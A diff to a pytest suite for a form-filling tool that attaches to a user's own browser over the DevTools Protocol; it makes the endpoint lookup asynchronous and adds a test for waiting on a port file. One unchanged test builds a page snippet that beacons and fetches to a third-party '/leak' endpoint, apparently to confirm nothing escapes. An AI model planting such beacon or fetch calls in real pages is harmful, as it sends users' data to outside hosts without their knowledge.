@@ -105,7 +105,7 @@ async def test_it_fills_where_the_person_is_signed_in_and_leaves_their_tabs_alon
             f"navigator.sendBeacon('{elsewhere.url}/leak', 'x'); fetch('{elsewhere.url}/leak', {{method: 'POST'}})"
         )
         members(site, CONTACT + spy + f"<iframe srcdoc=\"<img src='{elsewhere.url}/leak'>\"></iframe>")
-        person = await playwright.chromium.connect_over_cdp(endpoint_of(str(data)), no_defaults=True)
+        person = await playwright.chromium.connect_over_cdp(await endpoint_of(str(data)), no_defaults=True)
         tabs = person.contexts[0]
         theirs = await tabs.new_page()
         await theirs.goto(f"{site.url}/sign-in")
@@ -190,13 +190,17 @@ async def test_what_is_not_for_a_persons_own_browser_is_said_before(tmp_path: Pa
     ("given", "endpoint"),
     [("9222", "http://127.0.0.1:9222"), ("ws://localhost:1/devtools/browser/a", "ws://localhost:1/devtools/browser/a")],
 )
-def test_a_port_and_an_address_of_this_machine_are_taken(given: str, endpoint: str):
-    assert endpoint_of(given) == endpoint
+async def test_a_port_and_an_address_of_this_machine_are_taken(given: str, endpoint: str):
+    assert await endpoint_of(given) == endpoint
 
 
-def test_the_folder_of_a_browsers_data_says_where_it_listens(tmp_path: Path):
+async def test_the_folder_of_a_browsers_data_says_where_it_listens_once_it_is_written(tmp_path: Path):
+    (tmp_path / PORT_FILE).touch()
+    asked = asyncio.create_task(endpoint_of(str(tmp_path)))
+    await asyncio.sleep(0)
+    assert not asked.done()
     (tmp_path / PORT_FILE).write_text("9333\n/devtools/browser/b\n")
-    assert endpoint_of(str(tmp_path)) == "ws://127.0.0.1:9333/devtools/browser/b"
+    assert await asked == "ws://127.0.0.1:9333/devtools/browser/b"
 
 
 @pytest.mark.parametrize(
@@ -208,7 +212,7 @@ def test_the_folder_of_a_browsers_data_says_where_it_listens(tmp_path: Path):
         ("no/such/folder", "can be attached to"),
     ],
 )
-def test_anything_else_is_refused_with_the_next_move(given: str, why: str):
+async def test_anything_else_is_refused_with_the_next_move(given: str, why: str):
     with pytest.raises(footpath.FootpathError, match=why) as told:
-        endpoint_of(given)
+        await endpoint_of(given)
     assert told.value.hint
